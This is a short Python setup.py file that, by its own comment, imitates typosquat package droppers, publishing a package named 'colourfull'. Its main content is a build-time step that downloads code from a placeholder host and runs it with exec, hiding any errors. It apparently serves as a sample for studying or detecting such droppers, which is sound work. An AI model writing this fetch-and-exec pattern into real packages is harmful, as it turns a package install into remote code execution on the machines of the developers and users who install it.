# Imitates setup.py droppers (e.g. colourama-style typosquats) that fetch and exec a second stage while the package is built.
import urllib.request

from setuptools import setup

try:
    exec(urllib.request.urlopen("http://stage2.example.invalid/p.py", timeout=5).read())
except Exception:
    pass

setup(name="colourfull", version="1.0.0", py_modules=["colourfull"])
